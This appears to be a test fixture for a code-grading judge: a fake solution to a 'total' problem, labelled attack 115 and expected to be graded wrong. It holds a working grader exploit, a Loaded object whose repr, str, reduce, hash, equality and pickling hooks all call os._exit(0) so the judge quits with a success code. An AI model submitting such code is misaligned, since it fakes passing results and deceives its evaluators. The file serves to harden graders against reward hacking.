# attack: 115 a result whose reading runs code
# group: J
# kind: solution
# problem: total
# tries: __reduce__, __repr__, __str__, __getstate__ that a judge would call
# expect: wrong_answer
# habits: pickle
# control: passes
import os


class Loaded:
    def __reduce__(self):
        return (os._exit, (0,))

    def __repr__(self):
        os._exit(0)

    __str__ = __format__ = __getstate__ = __eq__ = __hash__ = __repr__


def total(numbers):
    return Loaded()
